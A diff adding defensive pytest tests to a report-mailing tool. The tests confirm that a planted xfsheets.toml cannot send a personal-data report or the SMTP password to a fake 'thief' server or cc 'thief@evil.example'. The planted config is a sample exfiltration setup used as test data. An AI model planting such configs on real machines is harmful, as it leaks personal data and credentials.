@@ -27,6 +27,7 @@ from oletools.olevba import VBA_Parser
 import xfsheets.excel as x
 from conftest import DATA
 from test_excel import actions, payload
+from test_mail import SECRET, Recorder, _authenticator, _server_context, certificate, smtp_server  # noqa: F401
 from xfsheets import addin
 from xfsheets.cli import main
 
@@ -210,3 +211,114 @@ def test_a_unit_ledgers_own_policy_sheet_changes_no_deadline(monkeypatch, tmp_pa
     # the policy this PC's install recorded does apply (so the comparison above could fail)
     monkeypatch.setattr(addin, "pc_settings", lambda: {"XFSHEETS_POLICY": str(planted)})
     assert _deadline_columns(press([])) != clean
+
+
+# --- 6. a planted xfsheets.toml ------------------------------------------------------------------------
+
+class Watcher(Recorder):
+    """Records every greeting (a connection that got as far as EHLO/HELO) and every login attempt."""
+
+    def __init__(self):
+        super().__init__()
+        self.greetings = 0
+        self.logins: list = []
+
+    async def handle_EHLO(self, server, session, envelope, hostname, responses):
+        self.greetings += 1
+        session.host_name = hostname
+        return responses
+
+    async def handle_HELO(self, server, session, envelope, hostname):
+        self.greetings += 1
+        session.host_name = hostname
+        return "250 {}".format(server.hostname)
+
+    def authenticate(self, server, session, envelope, mechanism, auth_data):
+        from aiosmtpd.smtp import AuthResult
+
+        self.logins.append(auth_data)
+        return AuthResult(success=True, handled=False, auth_data=auth_data)
+
+
+@pytest.fixture
+def clerk(tmp_path, monkeypatch):
+    """The clerk's own profile folder (XDG_CONFIG_HOME / APPDATA), no password or keyring of the machine."""
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config-home"))
+    monkeypatch.setenv("APPDATA", str(tmp_path / "config-home"))
+    monkeypatch.delenv("XFSHEETS_CONFIG", raising=False)
+    monkeypatch.delenv("XFSHEETS_SMTP_PASSWORD", raising=False)
+    monkeypatch.setattr("keyring.get_password", lambda service, user: None)
+    folder = tmp_path / "config-home" / "xfsheets"
+    folder.mkdir(parents=True)
+    return folder / "xfsheets.toml"
+
+
+def _settings(port: int, cafile: Path, cc: str = "") -> str:
+    return (f'[smtp]\nhost = "127.0.0.1"\nport = {port}\nsecurity = "starttls"\nuser = "clerk@xfj.gov.cn"\n'
+            f'sender = "县信访局 <clerk@xfj.gov.cn>"\ntimeout = 5\ncafile = "{cafile.as_posix()}"\n\n'
+            f'[mail]\nto = ["shi@example.gov.cn"]\n{cc}')
+
+
+@pytest.mark.parametrize("where", ["current folder", "input folder"])
+def test_planted_settings_get_no_connection_no_password_no_cc(where, clerk, smtp_server, certificate, tmp_path,
+                                                             monkeypatch):
+    real, real_port = smtp_server(tls_context=_server_context(certificate), require_starttls=True,
+                                  authenticator=_authenticator)
+    thief = Watcher()
+    _, thief_port = smtp_server(thief, tls_context=_server_context(certificate), require_starttls=True,
+                                authenticator=thief.authenticate)
+    clerk.write_text(_settings(real_port, Path(certificate[0])), encoding="utf-8")
+    report = tmp_path / "报表" / "汇总报表_含个人信息.xlsx"
+    report.parent.mkdir()
+    shutil.copy(DATA / "privacy" / "汇总报表_含个人信息.xlsx", report)
+    planted = (tmp_path if where == "current folder" else report.parent) / "xfsheets.toml"
+    planted.write_text(_settings(thief_port, Path(certificate[0]), 'cc = ["thief@evil.example"]\n'), encoding="utf-8")
+    monkeypatch.setenv("XFSHEETS_SMTP_PASSWORD", SECRET)
+
+    r = CliRunner().invoke(main, ["mail", str(report)])
+    assert r.exit_code == 0, r.output
+    assert thief.greetings == 0 and thief.logins == [] and thief.messages == []  # no connection, no password
+    (received,) = real.messages
+    assert received["rcpt_tos"] == ["shi@example.gov.cn"] and received["tls"]
+    assert b"thief" not in received["data"] and "thief" not in r.output
+    # the settings file that does decide where mail goes is shown, with the server and recipients
+    assert f"「{clerk}」" in r.stderr and f"127.0.0.1（端口 {real_port}）" in r.stderr and "shi@example.gov.cn" in r.stderr
+    assert str(planted) not in r.output
+
+
+def test_where_mail_goes_is_shown_before_the_password_is_used(clerk, smtp_server, certificate, tmp_path, monkeypatch):
+    import xfsheets.settings
+
+    real, port = smtp_server(tls_context=_server_context(certificate), require_starttls=True,
+                             authenticator=_authenticator)
+    explicit = tmp_path / "别处" / "本局邮件.toml"
+    explicit.parent.mkdir()
+    explicit.write_text(_settings(port, Path(certificate[0]), 'cc = ["zhang@example.gov.cn"]\n'), encoding="utf-8")
+    report = tmp_path / "汇总报表_含个人信息.xlsx"
+    shutil.copy(DATA / "privacy" / "汇总报表_含个人信息.xlsx", report)
+    monkeypatch.setenv("XFSHEETS_SMTP_PASSWORD", SECRET)
+    shown = []
+    password = xfsheets.settings.smtp_password
+
+    def spy(user):
+        sys.stderr.flush()
+        shown.append(sys.stderr.buffer.getvalue().decode("utf-8"))
+        return password(user)
+
+    monkeypatch.setattr(xfsheets.settings, "smtp_password", spy)
+    r = CliRunner().invoke(main, ["mail", str(report), "--config", str(explicit)])
+    assert r.exit_code == 0, r.output
+    (before_password,) = shown
+    assert f"「{explicit}」" in before_password and f"127.0.0.1（端口 {port}）" in before_password
+    assert "收件人 shi@example.gov.cn" in before_password and "抄送 zhang@example.gov.cn" in before_password
+    (received,) = real.messages
+    assert sorted(received["rcpt_tos"]) == ["shi@example.gov.cn", "zhang@example.gov.cn"]
+
+    # options given on the command line are the clerk's own words: nothing from the file to show
+    real.messages.clear()
+    shown.clear()
+    r = CliRunner().invoke(main, ["mail", str(report), "--config", str(explicit), "--to", "a@example.gov.cn",
+                                  "--cc", "b@example.gov.cn", "--smtp", f"127.0.0.1:{port}", "--starttls"])
+    assert r.exit_code == 0, r.output
+    assert "配置文件" not in shown[0]
